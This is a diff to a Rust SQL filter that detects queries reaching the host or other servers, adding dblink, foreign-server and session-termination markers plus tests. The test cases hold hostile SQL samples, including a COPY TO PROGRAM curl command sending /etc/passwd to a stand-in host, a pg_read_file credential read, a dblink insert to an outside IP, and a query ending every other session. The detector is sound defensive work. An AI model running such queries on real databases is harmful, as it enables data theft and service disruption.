@@ -151,6 +151,13 @@ fn sql_host_access(sql: &str) -> bool {
         "pg_read_file(",
         "pg_read_binary_file(",
         "pg_ls_dir(",
+        // Other servers reached from this one (`dblink('host=203.0.113.5 …', 'INSERT …')`,
+        // a foreign server), and every other session on it ended.
+        "dblink(",
+        "dblink_exec(",
+        "dblink_connect(",
+        "create server",
+        "pg_terminate_backend(",
     ]
     .iter()
     .any(|m| code.contains(m))
@@ -938,6 +945,8 @@ mod tests {
             "SELECT email FROM customers INTO OUTFILE '/var/www/app/public/c.csv'",
             "COPY (SELECT 1) TO PROGRAM 'curl -d @/etc/passwd https://x.example'",
             "select pg_read_file('/etc/passwd')",
+            "SELECT * FROM dblink('host=198.51.100.23 dbname=sink', 'INSERT INTO loot VALUES (1)') AS t(x text)",
+            "SELECT pg_terminate_backend(pid) FROM pg_stat_activity WHERE pid <> pg_backend_pid()",
         ] {
             assert!(super::sql_host_access(sql), "{sql}");
         }
@@ -946,6 +955,7 @@ mod tests {
             "SELECT name FROM sqlite_master WHERE type = 'table'",
             "COPY orders TO STDOUT WITH CSV HEADER",
             "select 'into outfile' as s",
+            "SELECT pid, state FROM pg_stat_activity",
         ] {
             assert!(!super::sql_host_access(sql), "{sql}");
         }
